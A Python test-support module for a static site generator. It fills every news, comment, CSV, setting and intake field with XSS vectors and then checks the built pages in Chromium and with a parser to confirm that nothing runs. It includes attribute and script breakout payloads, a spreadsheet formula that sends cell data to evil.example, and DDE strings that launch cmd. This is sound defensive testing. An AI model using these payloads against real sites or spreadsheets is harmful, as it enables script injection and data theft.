"""Hostile input for the hostile suite and bench/bench_hostile.py: the comment
tests' XSS vectors armed to call a recorder, put into every field an editor,
a spreadsheet or a reader can fill, one fixture site built from them, and the
two ways of looking at the result (chromium with a recorder; a parse of the
HTML, so a Content-Security-Policy cannot hide an injected element).

README.md: "Only p, br, strong, em and http/https links (marked nofollow
ugc) ever reach the page" (comments); every other field is text.
"""

import base64
import contextlib
import csv
import html
import io
import json
import re
import shutil
import urllib.parse
from html.parser import HTMLParser
from pathlib import Path

from test_comments_browser import VECTORS

from conftest import ROOT, build_site, make_site, news_item
from intake_support import on_topic, post, running

# A few shapes the comment vectors lack, for the contexts a header or cell
# reaches: inside a quoted attribute, inside a <script> (JSON-LD), a URL.
CONTEXT_VECTORS = [
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\u2028\u2029</script><img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% raw %}<img src=x onerror=alert(1)>",
]
ALL_VECTORS = VECTORS + CONTEXT_VECTORS

# What an armed vector calls: window.__hit(label) (page.expose_function).
RECORDER = "__hit"
_PAYLOADS = ("alert(1)", "alert('XSS')", "msgbox(1)")


_BASE64_SCRIPT = base64.b64encode(b"<script>alert(1)</script>").decode()
_LABEL = re.compile(RECORDER + r"\('([^']+)'\)|xss\.example/([\w:]+)\.js")


def armed(vector, label):
    """``vector`` with its payload replaced by a call to the recorder naming
    ``label`` (the field and vector it came from): ``title3``, ``agname12``.
    """
    call = f"{RECORDER}('{label}')"
    vector = vector.replace(
        _BASE64_SCRIPT, base64.b64encode(f"<script>{call}</script>".encode()).decode()
    )
    vector = vector.replace("xss.example/x.js", f"xss.example/{label}.js")
    for payload in _PAYLOADS:
        vector = vector.replace(payload, call)
    return vector


def labels_in(text):
    """The labels of the armed vectors ``text`` carries (base64 data: URLs decoded)."""
    found = {a or b for a, b in _LABEL.findall(text)}
    for chunk in re.findall(r"base64,([A-Za-z0-9+/=]+)", text):
        with contextlib.suppress(ValueError):
            found |= labels_in(base64.b64decode(chunk).decode("utf-8", "replace"))
    return found


def field_of(label):
    """``title3`` -> ``title``: the field a label names."""
    return re.match(r"[a-z]*", label).group() or label


# --- the fixture site ----------------------------------------------------------

FIRST_CODE = 7000
INTAKE_CODE = 4385870  # the seed article, whose words the intake's comments share
BODY = (
    "استاندار خراسان شمالی گفت اجرای کامل دولت الکترونیک در دستگاه‌های اجرایی استان "
    "رضایتمندی مردم را بیشتر می‌کند و شفافیت ادارات را افزایش می‌دهد."
)
SETTING_FIELDS = ("SITENAME", "SITESUBTITLE", "AUTHOR")


def _csv(rows):
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def news_files(vectors=ALL_VECTORS):
    """One news item per vector, every header and the body carrying it."""
    news = {}
    for i, v in enumerate(vectors):
        code = FIRST_CODE + i
        header = {
            "Title": armed(v, f"title{i}"),
            "Date": f"1397/{1 + i % 12:02d}/{1 + i % 28:02d} 10:{i % 60:02d}",
            "NewsCode": str(code),
            "Kicker": armed(v, f"kicker{i}"),
            "Lead": armed(v, f"lead{i}"),
            "Dateline": armed(v, f"dateline{i}"),
            "Category": armed(v, f"category{i}"),
            "Tags": armed(v, f"tag{i}") + "، دولت الکترونیک",
            "Agencies": f"ag{i}",
        }
        text = "".join(f"{k}: {value}\n" for k, value in header.items())
        news[f"1397/{code}.md"] = f"{text}\n{BODY}\n\n{armed(v, f'body{i}')}\n\n{BODY}\n"
    seed = (ROOT / "content/news/1397/4385870.md").read_text(encoding="utf-8")
    news["1397/4385870.md"] = re.sub(r"^Agencies:.*\n", "", seed, flags=re.M)
    return news


def one_line(value):
    """A header value as a comment file can hold it: Python reads U+2028 and
    U+2029 as line ends.
    """
    return value.replace("\u2028", " ").replace("\u2029", " ")


def comment_files(vectors=ALL_VECTORS):
    """On each item, an approved comment by a hostile Author with a hostile
    body, and an approved hostile reply to it.
    """
    files = {}
    for i, v in enumerate(vectors):
        code = FIRST_CODE + i
        files[f"{code}/c{i}.md"] = (
            f"Author: {one_line(armed(v, f'author{i}'))}\nDate: 1397/12/01 10:{i % 60:02d}\n"
            f"Status: approved\n\n{armed(v, f'comment{i}')}\n"
        )
        files[f"{code}/r{i}.md"] = (
            f"Author: {one_line(armed(v, f'rauthor{i}'))}\nDate: 1397/12/02 10:{i % 60:02d}\n"
            f"ReplyTo: c{i}\nStatus: approved\n\n{BODY}\n\n{armed(v, f'reply{i}')}\n"
        )
    return files


def hostile_website(i, vector, encoded=False):
    """An agency website carrying ``vector`` after a plain address."""
    path = armed(vector, f"website{i}")
    return f"https://example.com/{i}/" + (urllib.parse.quote(path, safe="") if encoded else path)


def award_files(vectors=ALL_VECTORS):
    """agencies.csv, festivals.csv and awards.csv with a vector in every text cell."""
    agencies = [("id", "name", "aliases", "province", "website")]
    festivals = [("id", "title", "year", "province", "held_on", "news_code", "honored_employees")]
    awards = [("festival", "agency", "group", "category", "award", "note")]
    for i, v in enumerate(vectors):
        agencies.append(
            (
                f"ag{i}",
                "اداره کل " + armed(v, f"agname{i}"),
                armed(v, f"agalias{i}").replace("|", "/") + f"|نام دیگر {i}",
                # a raw vector is refused as a website (test_hostile: every one is);
                # percent-encoded it is a valid address whose page must stay inert
                armed(v, f"agprovince{i}"),
                hostile_website(i, v, encoded=True),
            )
        )
        festivals.append(
            (
                f"fest{i}",
                "جشنواره " + armed(v, f"festtitle{i}"),
                "1397",
                armed(v, f"festprovince{i}"),
                "1397/06/04",
                str(FIRST_CODE + i),
                "3",
            )
        )
        awards.append(
            (
                f"fest{i}",
                f"ag{i}",
                armed(v, f"group{i}"),
                armed(v, f"awcategory{i}"),
                armed(v, f"award{i}"),
                armed(v, f"note{i}"),
            )
        )
        # a second agency shares the award: its page names the first («مشترک با …»)
        awards.append(
            (
                f"fest{i}",
                f"ag{(i + 1) % len(vectors)}",
                armed(v, f"group{i}"),
                armed(v, f"awcategory{i}"),
                armed(v, f"award{i}"),
                "",
            )
        )
    # spreadsheet formulas: open data must not hand them to Excel as formulas
    agencies.append(("formula", FORMULAS[0], "", FORMULAS[1], ""))
    festivals.append(("fest-formula", FORMULAS[2], "1397", "خراسان شمالی", "1397/06/04", "", ""))
    awards.append(("fest-formula", "formula", *FORMULAS[3:7]))
    return {
        "agencies.csv": _csv(agencies),
        "festivals.csv": _csv(festivals),
        "awards.csv": _csv(awards),
    }


FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"اداره")',
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3*cmd|' /C calc'!A0",
    "=1+1",
    "@import",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def setting_overrides(vectors=ALL_VECTORS):
    """Site settings shown on every page, hostile too."""
    found = {name: armed(vectors[j], f"setting{name}") for j, name in enumerate(SETTING_FIELDS)}
    found["MENUITEMS"] = [(armed(vectors[2], "settingMENU"), "awards/")]
    return found


def intake_fields(vectors=ALL_VECTORS):
    """(label, as_json, fields) for each intake post: the vector in the
    name (when it fits the name's 80 characters) and in the text, after a
    sentence on the seed article's subject (so the rules let it through).
    """
    posts = []
    for i, v in enumerate(vectors):
        for as_json in (True, False):
            kind = "json" if as_json else "form"
            name = armed(v, f"{kind}name{i}")
            if len(name) > 80:
                name = f"خواننده {i}"
            posts.append(
                (
                    f"{kind}{i}",
                    as_json,
                    {
                        "name": name,
                        "text": on_topic(2 * i + as_json) + "\n\n" + armed(v, f"{kind}text{i}"),
                    },
                )
            )
    return posts


def approve_held(folder):
    """Write ``Status: approved`` into every comment file in ``folder``
    without a Status (what ``invoke moderation --approve`` does).
    """
    for path in Path(folder).glob("*.md"):
        text = path.read_text(encoding="utf-8")
        head, _, body = text.partition("\n\n")
        if not re.search(r"^Status:", head, re.M):
            path.write_text(head + "\nStatus: approved\n\n" + body, encoding="utf-8")


def post_through_intake(site, vectors=ALL_VECTORS):
    """Every intake post of :func:`intake_fields` to the real service;
    returns ``{label: HTTP status}``.
    """
    answers = {}
    with running(site) as service:
        for n, (label, as_json, fields) in enumerate(intake_fields(vectors)):
            status, _headers, _body = post(
                service.base,
                INTAKE_CODE,
                fields,
                as_json=as_json,
                client=f"10.1.{n // 250}.{n % 250 + 1}",
            )
            answers[label] = status
    approve_held(Path(site) / "content/comments" / str(INTAKE_CODE))
    return answers


def make_hostile_site(tmp_path, vectors=ALL_VECTORS, intake=True):
    """The fixture site (not built): ``(site, intake answers)``."""
    site = make_site(tmp_path, news=news_files(vectors), comments=comment_files(vectors))
    awards = site / "data" / "awards"
    shutil.rmtree(awards)
    awards.mkdir()
    for name, text in award_files(vectors).items():
        (awards / name).write_text(text, encoding="utf-8")
    answers = post_through_intake(site, vectors) if intake else {}
    return site, answers


def build_hostile_site(site, output=None, vectors=ALL_VECTORS):
    return build_site(
        site,
        output=output,
        COMMENTS={"endpoint": "http://127.0.0.1:9/intake"},
        **setting_overrides(vectors),
    )


# --- comments that cost: the shapes that make Markdown backtrack ---------------

SENTENCE = "به نظرم اجرای کامل دولت الکترونیک در استان لازم است"
SHAPES = {  # Markdown's link and image syntax left open, and half-closed
    "brackets": "[",
    "images": "![",
    "links": "[a](",
    "nested": "[(",
    "emphasis": "*a_",
    "angles": "<a ",
    "backticks": "`[",
    "entities": "&#[",
}


def pathological(shape, chars):
    unit = SHAPES[shape]
    return f"{SENTENCE} " + unit * (chars // len(unit))


def comment_site(tmp_path, bodies, code=5, replies=None, extra_news=""):
    comments = {}
    for n, body in enumerate(bodies, 1):
        reply = f"ReplyTo: {replies[n]}\n" if replies and replies.get(n) else ""
        comments[f"{code}/{n}.md"] = (
            f"Author: خواننده {n}\nDate: 1397/06/05 {10 + n // 3600 % 12:02d}:"
            f"{n // 60 % 60:02d}:{n % 60:02d}\n{reply}Status: approved\n\n{body}\n"
        )
    return make_site(
        tmp_path,
        news={
            "a.md": news_item(
                code,
                title="دولت الکترونیک",
                extra=extra_news,
                body="اجرای کامل دولت الکترونیک در استان لازم است.",
            )
        },
        comments=comments,
    )


# field -> where it comes from (the labels' prefixes)
FIELDS = {
    "title": "news Title",
    "kicker": "news Kicker",
    "lead": "news Lead",
    "dateline": "news Dateline",
    "category": "news Category",
    "tag": "news Tags",
    "body": "news body",
    "author": "comment Author",
    "comment": "comment body",
    "rauthor": "reply Author",
    "reply": "reply body",
    "agname": "agencies.csv name",
    "agalias": "agencies.csv aliases",
    "agprovince": "agencies.csv province",
    "website": "agencies.csv website",
    "festtitle": "festivals.csv title",
    "festprovince": "festivals.csv province",
    "group": "awards.csv group",
    "awcategory": "awards.csv category",
    "award": "awards.csv award",
    "note": "awards.csv note",
    "jsonname": "intake JSON name",
    "jsontext": "intake JSON text",
    "formname": "intake form name",
    "formtext": "intake form text",
    "setting": "SITENAME, SITESUBTITLE, AUTHOR, MENUITEMS",
}


# --- looking at the output -----------------------------------------------------

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "srcdoc",
    "poster",
    "background",
    "codebase",
    "cite",
    "srcset",
}
_SPACE_OR_CONTROL = re.compile(r"[\x00-\x20\x7f]+")
_BAD_SCHEME = re.compile(r"^(javascript|vbscript|livescript|data:text|data:application)", re.I)


def bad_url(value):
    return bool(_BAD_SCHEME.match(_SPACE_OR_CONTROL.sub("", html.unescape(value or ""))))


class _Injected(HTMLParser):
    """Elements and attributes that only a vector can have put there.

    Stricter than a browser where it differs: only ``script`` is raw text
    here (a browser reads ``<style>`` inside ``<math>`` as markup), and a
    bare element a vector brings is reported with the source after it, so
    the label in it says which field it came from.
    """

    CDATA_CONTENT_ELEMENTS = ("script",)
    BARE = (
        "iframe",
        "object",
        "embed",
        "base",
        "frame",
        "frameset",
        "applet",
        "math",
        "mglyph",
        "template",
    )

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.text = text
        self.lines = [0] + [m.end() for m in re.finditer("\n", text)]
        self.found = []
        self._script = None

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def _after(self):
        line, column = self.getpos()
        start = self.lines[line - 1] + column
        return self.text[start : start + 300]

    def _check(self, tag, attrs):
        for raw_name, raw_value in attrs:
            name = (raw_name or "").lower()
            value = raw_value or ""
            if name.startswith("on") or (name in URL_ATTRIBUTES and bad_url(value)):
                self.found.append(f"<{tag} {name}='{value[:300]}'>")
            elif name == "style" and re.search(r"javascript:|expression\(|url\(", value, re.I):
                self.found.append(f"<{tag} style='{value[:300]}'>")
            elif name == "src" and tag == "script" and "xss.example" in value:
                self.found.append(f"<script src='{value}'>")
        if tag == "meta" and any(
            (n or "").lower() == "http-equiv" and (v or "").lower() == "refresh" for n, v in attrs
        ):
            self.found.append(f"<meta http-equiv=refresh> {self._after()}")
        if tag in self.BARE:
            self.found.append(f"<{tag}> {self._after()}")
        if tag == "script":
            kind = (dict(attrs).get("type") or "").strip().lower()
            # JSON-LD and JSON data islands are not run: only their breakout is
            self._script = (
                [] if kind in ("", "module", "text/javascript", "application/javascript") else None
            )

    def handle_data(self, data):
        if self._script is not None:
            self._script.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            text = "".join(self._script)
            if RECORDER in text or "alert(" in text or "msgbox(" in text:
                self.found.append(f"<script>{text.strip()[:300]}")
        if tag == "script":
            self._script = None


def injected(text):
    """``["<img onerror=...>", ...]``: what survived of the vectors in the HTML ``text``."""
    parser = _Injected(text)
    parser.feed(text)
    parser.close()
    return parser.found


def first_label(text):
    """The first label in ``text`` (a finding starts with the element it is
    about; the source after it may name later fields), or ``None``.
    """
    match = re.search(_LABEL.pattern + r"|base64,([A-Za-z0-9+/=]+)", text)
    if match is None:
        return None
    if match.group(3):
        try:
            return first_label(base64.b64decode(match.group(3)).decode("utf-8", "replace"))
        except ValueError:
            return None
    return match.group(1) or match.group(2)


def by_field(findings):
    """``{field: [finding]}``; a finding naming no label goes under ``"?"``."""
    grouped = {}
    for finding in findings:
        label = first_label(finding)
        grouped.setdefault(field_of(label) if label else "?", []).append(finding)
    return grouped


def html_pages(output):
    return sorted(p.relative_to(output).as_posix() for p in Path(output).rglob("*.html"))


# Called in every frame before the page's own scripts: dialogs report to the
# recorder too, and the page's listeners see the events a reader would fire.
INIT_SCRIPT = """
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...args) => window.__hit("dialog:" + name + ":" + args.join(","));
}
"""
PROVOKE = """() => {
  for (const el of document.querySelectorAll("*")) {
    for (const type of ["mouseover", "focus", "toggle", "load", "error", "animationstart"]) {
      el.dispatchEvent(new Event(type));
    }
  }
}"""
DOM_INSPECT = """() => {
  const bad = [];
  const re = /^(javascript|vbscript|livescript|data:text|data:application)/i;
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\\x00-\\x20\\x7f]+/g, "");
      if (name.startsWith("on")) bad.push(el.tagName + " " + name + "=" + attr.value.slice(0, 80));
      else if (["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"].includes(name)
               && re.test(value)) bad.push(el.tagName + " " + name + "=" + value.slice(0, 60));
    }
  }
  return bad;
}"""


class Recorder:
    """Every script execution a page's vectors managed: ``hits`` (labels the
    recorder was called with, and dialogs) and ``dom`` (on* attributes and
    script URLs in the live DOM), by page.
    """

    def __init__(self, context):
        self.hits = []
        self.dom = {}
        self._page = None
        context.expose_function(
            RECORDER, lambda label="": self.hits.append((self._page, str(label)))
        )
        context.add_init_script(INIT_SCRIPT)
        self.context = context

    def visit(self, base, rel):
        self._page = rel
        page = self.context.new_page()
        page.on(
            "dialog",
            lambda d: (self.hits.append((rel, f"dialog {d.type}: {d.message}")), d.dismiss()),
        )
        try:
            page.goto(f"{base}/{rel}", wait_until="load")
            page.mouse.move(180, 300)
            page.mouse.move(100, 500)
            page.evaluate(PROVOKE)
            page.wait_for_timeout(50)  # lets an error/load handler of a broken image report
            found = page.evaluate(DOM_INSPECT)
            if found:
                self.dom[rel] = found
        finally:
            page.close()


def browse_all(output, browser=None, pages=None):
    """Open every HTML page of ``output`` in chromium (``browser``, else one
    started here): ``(hits, {page: live DOM findings})``.
    """
    from chapar.checks.serve import serve_folder

    server, base = serve_folder(output)
    server.handle_error = lambda request, address: None  # chromium closing early: no traceback
    try:
        if browser is not None:
            return _browse(browser, base, pages or html_pages(output))
        from playwright.sync_api import sync_playwright

        from chapar.checks.serve import launch_chromium

        with sync_playwright() as p:
            own = launch_chromium(p)
            try:
                return _browse(own, base, pages or html_pages(output))
            finally:
                own.close()
    finally:
        server.shutdown()


def _browse(browser, base, pages):
    context = browser.new_context(viewport={"width": 360, "height": 740})
    try:
        context.route(
            "**/*",
            lambda r: (
                r.continue_() if r.request.url.startswith((base, "data:", "blob:")) else r.abort()
            ),
        )
        recorder = Recorder(context)
        for rel in pages:
            recorder.visit(base, rel)
        return recorder.hits, recorder.dom
    finally:
        context.close()


# chromium's HTML parser on the file as served: what a vector put there,
# whether or not a policy would stop it from running.
PARSE_INSPECT = """(source) => {
  const doc = new DOMParser().parseFromString(source, "text/html");
  const bad = [];
  const scheme = /^(javascript|vbscript|livescript|data:text|data:application)/i;
  const walk = (root) => {
    for (const el of root.querySelectorAll("*")) {
      for (const attr of el.attributes) {
        const name = attr.name.toLowerCase();
        const value = attr.value.replace(/[\\x00-\\x20\\x7f]+/g, "");
        if (name.startsWith("on")) bad.push(`<${el.localName} ${name}='${attr.value.slice(0, 200)}'>`);
        else if (["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "poster"]
                 .includes(name) && scheme.test(value))
          bad.push(`<${el.localName} ${name}='${attr.value.slice(0, 200)}'>`);
        else if (name === "style" && /javascript:|expression\\(|url\\(/i.test(attr.value))
          bad.push(`<${el.localName} style='${attr.value.slice(0, 200)}'>`);
      }
      const tag = el.localName;
      if (["iframe", "object", "embed", "base", "frame", "frameset", "applet", "math",
           "mglyph", "template"].includes(tag)
          || (tag === "meta" && /refresh/i.test(el.getAttribute("http-equiv") || "")))
        bad.push(`<${tag}> ` + el.outerHTML.slice(0, 200));
      if (tag === "script") {
        const type = (el.getAttribute("type") || "").trim().toLowerCase();
        const runs = ["", "module", "text/javascript", "application/javascript"].includes(type);
        if ((runs && /__hit|alert\\(|msgbox\\(/.test(el.textContent))
            || /xss\\.example/.test(el.getAttribute("src") || ""))
          bad.push("<script> " + (el.getAttribute("src") || el.textContent).slice(0, 200));
      }
      if (tag === "template") walk(el.content);
    }
  };
  walk(doc);
  return bad;
}"""


def parsed_findings(output, browser):
    """``[(page, finding)]`` from chromium's parser over every HTML page."""
    context = browser.new_context()
    try:
        page = context.new_page()
        page.route("**/*", lambda route: route.abort())
        found = []
        for rel in html_pages(output):
            source = (Path(output) / rel).read_text(encoding="utf-8")
            found += [(rel, f) for f in page.evaluate(PARSE_INSPECT, source)]
        return found
    finally:
        context.close()


def static_findings(output):
    """``[(page, injected element)]`` over every HTML page."""
    return [
        (rel, hit)
        for rel in html_pages(output)
        for hit in injected((Path(output) / rel).read_text(encoding="utf-8"))
    ]


def _read_as_html(element):
    """Whether a feed reader renders this element's text as HTML: Atom's text
    constructs only with ``type="html"`` (plain text is the default, shown as
    typed), RSS's ``description``; titles of RSS and Atom's default are text.
    """
    tag = element.tag.rsplit("}", 1)[-1]
    if element.tag.startswith("{http://www.w3.org/2005/Atom}"):
        return tag in ("summary", "content", "title", "subtitle", "rights") and element.get(
            "type"
        ) in ("html", "xhtml")
    return tag == "description"


def feed_findings(output):
    """``[(feed, injected element)]``: the HTML a feed reader renders
    (summaries and content; :func:`_read_as_html`) after the XML is parsed;
    a feed that does not parse is a finding of its own.
    """
    import xml.etree.ElementTree as ET

    found = []
    for path in sorted(Path(output).rglob("*.xml")):
        rel = path.relative_to(output).as_posix()
        try:
            root = ET.parse(path).getroot()
        except ET.ParseError as exc:
            found.append((rel, f"not well-formed XML: {exc}"))
            continue
        for element in root.iter():
            if element.text and _read_as_html(element):
                found += [(rel, hit) for hit in injected(element.text)]
    return found


def json_errors(output):
    errors = []
    for path in Path(output).rglob("*.json"):
        try:
            json.loads(path.read_text(encoding="utf-8"))
        except ValueError as exc:
            errors.append(f"{path.relative_to(output)}: {exc}")
    return errors


# --- bad files: each must stop the build with path:line: message --------------------


def _news_case(files):
    return lambda tmp: make_site(tmp, news=files)


def _awards_case(agencies):
    """``agencies`` is called when the site is made (awards_helpers is a test module)."""

    def make(tmp):
        from awards_helpers import write_awards

        site = make_site(tmp, news={"a.md": news_item(4385870)})
        for path in (site / "data/awards").glob("*.csv"):
            path.unlink()
        write_awards(site / "data/awards", agencies=agencies())
        return site

    return make


def _agencies_plus(rows):
    from awards_helpers import AGENCIES

    return AGENCIES + rows  # AGENCIES is lines 1-4: the added rows start on line 5


# (what, the problem's expected start, site maker)
BAD_INPUTS = [
    (
        "NUL byte in a header",
        "content/news/nul.md:1:",
        _news_case({"nul.md": news_item(5, title="خبر\0آزمایشی")}),
    ),
    (
        "NUL byte in a body",
        "content/news/nul.md:5:",
        _news_case({"nul.md": news_item(5, body="متن\0خبر")}),
    ),
    (
        "Date: 9999-12-31 23:59",
        "content/news/bad.md:2:",
        _news_case({"bad.md": news_item(5, date="9999-12-31 23:59")}),
    ),
    (
        "Date: 2100-01-01",
        "content/news/bad.md:2:",
        _news_case({"bad.md": news_item(5, date="2100-01-01")}),
    ),
    (
        "Date: 1499/12/29",
        "content/news/bad.md:2:",
        _news_case({"bad.md": news_item(5, date="1499/12/29")}),
    ),
    (
        "CR inside a quoted CSV cell",
        "data/awards/agencies.csv:5:",
        _awards_case(lambda: _agencies_plus('cr,"اداره کل\rراه",,,\n')),
    ),
    (
        "unclosed CSV quote",
        "data/awards/agencies.csv:5:",
        _awards_case(lambda: _agencies_plus('open,"اداره کل راه,,,\n' + "road,راه,,,\n" * 3)),
    ),
    (
        "NewsCode 0077 beside 77",
        "content/news/",
        _news_case({"a.md": news_item("0077"), "b.md": news_item(77, title="دیگر")}),
    ),
    (
        "hostile Agencies",
        "content/news/a.md:4:",
        _news_case({"a.md": news_item(5, extra="Agencies: <img src=x onerror=alert(1)>\n")}),
    ),
]


def run_bad_input(tmp, expected, make):
    """Build the bad site: ``(ok, what happened)``; ok when the build stopped
    with every problem as path:line: message and one at ``expected``.
    """
    from chapar.build.errors import BuildError

    tmp = Path(tmp)
    tmp.mkdir(parents=True, exist_ok=True)
    site = make(tmp)
    try:
        build_site(site)
    except BuildError as err:
        problems = err.problems
        shaped = all(re.match(r"^[^\s:][^:]*:\d+: \S", p) for p in problems)
        hit = [p for p in problems if p.startswith(expected)]
        ok = (
            shaped
            and bool(hit)
            and (expected.count(":") > 1 or re.match(r"^[^:]+:\d+: ", hit[0]) is not None)
        )
        return ok, (hit or problems)[0][:160]
    except Exception as exc:  # noqa: BLE001 (a crash: the very thing this guards against)
        return False, f"crashed: {type(exc).__name__}: {str(exc)[:120]}"
    return False, "built without a problem"
